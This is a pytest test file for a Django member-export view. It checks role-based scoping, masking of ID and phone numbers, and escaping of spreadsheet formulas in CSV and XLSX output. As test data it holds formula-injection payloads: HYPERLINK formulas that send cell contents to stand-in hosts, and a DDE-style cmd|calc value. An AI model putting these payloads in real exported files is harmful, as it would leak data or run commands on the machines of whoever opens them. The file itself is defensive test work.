"""Exporting members: the exporter's scope only, sensitive columns masked unless they may
see them, and nothing a spreadsheet would run as a formula."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from members.scoping import mask
from members.spreadsheets import escape_formula

from .conftest import admin_url

pytestmark = pytest.mark.django_db


def export_csv(client, query: str = "") -> list[dict]:
    response = client.get(admin_url("member_export") + f"?format=csv{query}")
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith("attachment")
    text = response.content.decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text)))


def export_xlsx(client):
    response = client.get(admin_url("member_export") + "?format=xlsx")
    assert response.status_code == 200
    return load_workbook(io.BytesIO(response.content)).worksheets[0]


def test_secretary_exports_own_branch_with_id_numbers_and_phones_masked(org, client_for):
    rows = export_csv(client_for("secretary_a"))
    assert {r["姓名"] for r in rows} == {"王组织", "孙书记", "李安"}
    li = next(r for r in rows if r["姓名"] == "李安")
    assert li["身份证号"] == mask("130534198505050033") != "130534198505050033"
    assert li["手机号码"] == mask("13800000003")
    assert li["出生日期"] == mask("1985-05-05")
    assert li["所在党支部"] == "机关第一党支部"


def test_organiser_exports_subtree_with_sensitive_fields(org, client_for):
    rows = export_csv(client_for("organiser"))
    assert {r["姓名"] for r in rows} == {"王组织", "孙书记", "李安", "赵博"}  # not 钱程
    zhao = next(r for r in rows if r["姓名"] == "赵博")
    assert zhao["身份证号"] == "130534198505050044"
    assert zhao["手机号码"] == "13800000004"


def test_export_follows_the_changelist_filters(org, client_for):
    rows = export_csv(client_for("organiser"), f"&unit={org.branch_b.pk}")
    assert [r["姓名"] for r in rows] == ["赵博"]
    rows = export_csv(client_for("organiser"), "&q=李")
    assert [r["姓名"] for r in rows] == ["李安"]


def test_tampered_unit_filter_exports_nothing_outside_scope(org, client_for):
    assert export_csv(client_for("secretary_a"), f"&unit={org.branch_b.pk}") == []


FORMULA = '=HYPERLINK("http://x.cn/?"&A1,"点我")'  # fits the 50 characters of a name


def test_formulae_are_escaped_in_csv(org, client_for):
    org.member_a.name = FORMULA
    org.member_a.department = "+1+cmd|' /C calc'!A0"
    org.member_a.save()
    row = next(r for r in export_csv(client_for("secretary_a")) if "HYPERLINK" in r["姓名"])
    assert row["姓名"] == "'" + FORMULA
    assert row["部门"].startswith("'+")


def test_formulae_are_escaped_in_xlsx(org, client_for):
    org.member_a.name = FORMULA
    org.member_a.save()
    sheet = export_xlsx(client_for("organiser"))
    names = [row[0] for row in sheet.iter_rows(min_row=2)]
    cell = next(c for c in names if "HYPERLINK" in str(c.value))
    assert cell.data_type != "f"  # a string, never a formula
    assert not str(cell.value).startswith("=")


def test_export_needs_admin_access(org, client_for):
    response = client_for("member_a").get(admin_url("member_export") + "?format=csv")
    assert response.status_code == 302


@pytest.mark.parametrize(
    "value, expected",
    [
        ('=HYPERLINK("http://evil/?"&B3,"x")', '\'=HYPERLINK("http://evil/?"&B3,"x")'),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("李安", "李安"),
        ("", ""),
        (-5, -5),
        (1.5, 1.5),
        (None, None),
    ],
)
def test_escape_formula_prefixes_formula_text_and_leaves_numbers(value, expected):
    assert escape_formula(value) == expected
